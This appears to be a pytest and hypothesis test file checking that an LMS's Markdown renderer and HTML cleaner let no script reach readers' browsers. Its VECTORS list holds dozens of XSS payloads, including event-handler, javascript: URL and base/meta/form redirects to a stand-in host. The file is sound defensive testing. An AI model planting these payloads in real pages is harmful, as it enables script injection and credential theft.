# SPDX-License-Identifier: Apache-2.0
"""Whatever an author writes, nothing runs in a reader's browser."""

from __future__ import annotations

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.markup.cleaning import clean
from lms.markup.markdown import render

ELEMENTS = {
    *("html", "head", "body", "p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "br", "pre"),
    *("code", "strong", "em", "a", "sup", "ruby", "rt", "rp", "img", "figure", "figcaption", "div", "table", "thead"),
    *("tbody", "tr", "th", "td", "aside", "section"),
}
ATTRIBUTES = {"id", "class", "href", "src", "alt", "rel", "role", "tabindex", "aria-label", "scope", "start", "loading"}
CLASSES = {
    *("table-scroll", "callout", "callout-title", "callout-note", "callout-warning", "callout-example"),
    *("callout-exercise", "callout-aim", "callout-case", "callout-checklist", "callout-remember", "callout-easy"),
    *("columns-1", "columns-2", "columns-3", "footnote-ref", "footnotes", "footnote-back", "figure"),
    *("align-left", "align-center", "align-right"),
}

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(//evil.example)</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    '[x](https://example.org" onmouseover="alert(1))',
    '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](assets/a.svg)',
    '![x](assets/a.svg "\\" onerror=\\"alert(1)")',
    "<javascript:alert(1)>",
    '<https://example.org/"onclick=alert(1)>',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x][1]\n\n[1]: javascript:alert(1)",
    "{<script>|alert(1)}",
    "{a|<img src=x onerror=alert(1)>}",
    "::: note <script>alert(1)</script>\n\nx\n\n:::",
    '::: note" onclick="alert(1)\n\nx\n\n:::',
    '```"><script>alert(1)</script>\nx\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    'x[^"><script>]\n\n[^"><script>]: y',
    "## <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<table><td background='javascript:alert(1)'>",
    "<x/onclick=alert(1)>y",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "\ue000{a\ue000<b>}",
    "<details open ontoggle=alert(1)>",
    "</p></div></main><script>alert(1)</script>",
]


def offences(html: str) -> list[str]:
    """Everything that a browser would see in the page and that nobody allowed."""
    found = []
    for element in html5lib.parse(html, namespaceHTMLElements=False).iter():
        if element.tag not in ELEMENTS:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name not in ATTRIBUTES or (name == "class" and not set(value.split()) <= CLASSES):
                found.append(f"{name}={value}")
            if name in {"href", "src"} and not value.startswith(("https://", "#", "/files/", "/pages/")):
                found.append(f"{name}={value}")
    return found


def rendered(text: str) -> str:
    return render(text, asset_url=lambda path: f"/files/{path}", page_url=lambda page: f"/pages/{page}").html


@pytest.mark.parametrize("text", VECTORS)
def test_nothing_but_our_own_elements_leaves(text: str) -> None:
    for around in (text, f"前 {text} 後", f"- {text}", f"> {text}", f"**{text}**", f"x[^1]\n\n[^1]: {text}"):
        assert offences(rendered(around)) == []


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b>太字</b>"])
def test_html_is_shown_as_it_was_typed(text: str) -> None:
    escaped = text.replace("<", "&lt;").replace(">", "&gt;")
    assert escaped in rendered(f"前 {text} 後")


WORDS = ("script", "javascript:", "onerror", "::: note x\n", "あ", "、")
SIGNS = st.sampled_from([*"<>\"'&;:/\\=()[]{}|!*_`#-^~\n \t", *WORDS])


@settings(max_examples=200, deadline=None)
@given(st.lists(SIGNS, max_size=60).map("".join))
def test_no_mixture_of_signs_gets_through(text: str) -> None:
    html = rendered(text)
    assert offences(html) == []
    assert clean(html) == html


@pytest.mark.parametrize("html", [vector for vector in VECTORS if "<" in vector])
def test_the_last_gate_stands_alone(html: str) -> None:
    assert offences(clean(html)) == []


@pytest.mark.parametrize(
    "address", ["//evil.example/x", "javascript:alert(1)", "http://evil.example", "\\\\evil.example"]
)
def test_the_last_gate_lets_no_foreign_address_through(address: str) -> None:
    assert "evil" not in clean(f'<a href="{address}">x</a><img src="{address}">')
    assert "alert" not in clean(f'<a href="{address}">x</a>')
